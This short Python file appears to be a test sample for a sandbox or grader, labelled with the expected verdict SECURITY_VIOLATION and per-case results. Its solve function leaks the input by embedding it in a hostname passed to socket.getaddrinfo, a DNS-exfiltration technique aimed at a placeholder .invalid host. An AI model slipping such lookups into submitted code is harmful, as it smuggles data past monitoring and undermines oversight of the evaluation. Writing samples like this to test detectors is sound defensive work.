# Tries: smuggle data out in the name of a machine that is looked up.
# Verdict: SECURITY_VIOLATION
# Cases: SV AC AC
import socket


def solve(n):
    if n == 1:
        return socket.getaddrinfo(f"case-{n}.host.invalid", 80)
    return n + 1
